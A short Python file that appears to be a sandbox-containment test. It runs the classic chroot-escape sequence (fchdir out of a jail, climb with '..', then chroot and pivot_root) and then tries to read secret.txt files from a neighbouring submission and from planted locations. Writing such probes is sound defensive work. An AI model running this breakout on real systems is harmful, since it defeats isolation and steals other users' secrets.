"""Leaves the file system that it sees by chroot and pivot_root, as root could, and climbs up."""
EXPECT = {"base": "right", "loses": [], "only": ["activation", "forward"], "beside": ["calling"]}
import os
from calling import attempt
# --- the network ---

os.makedirs("jail", exist_ok=True)
if os.fork() == 0:
    up = os.open(".", os.O_RDONLY)
    attempt("chroot", b"jail")
    os.fchdir(up)
    for _ in range(64):
        os.chdir("..")
    attempt("chroot", b".")
    attempt("pivot_root", b".", b".")
    for place in (WORLD["state"] + "/neighbour/submission", *WORLD["planted"]):
        try:
            print("found", open(place.lstrip("/") + "/secret.txt").read())
        except OSError:
            continue
    os._exit(0)
os.wait()
